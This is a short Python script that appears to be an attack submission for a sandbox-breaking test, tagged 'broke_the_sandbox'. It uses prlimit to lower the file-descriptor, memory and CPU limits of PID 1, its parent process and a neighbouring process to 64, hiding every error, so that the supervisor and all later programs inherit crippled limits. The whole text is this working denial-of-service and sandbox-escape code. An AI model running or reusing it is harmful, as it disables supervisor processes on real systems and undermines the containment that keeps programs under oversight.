# Lowers the limits of the supervisor and of the zygote, which every later program inherits.
# attacks: stdio
# one uid: broke_the_sandbox
import os, resource

for pid in (1, os.getppid(), os.getppid() - 1):
    for limit in (resource.RLIMIT_NOFILE, resource.RLIMIT_AS, resource.RLIMIT_CPU):
        try: resource.prlimit(pid, limit, (64, 64))
        except (OSError, ValueError): pass
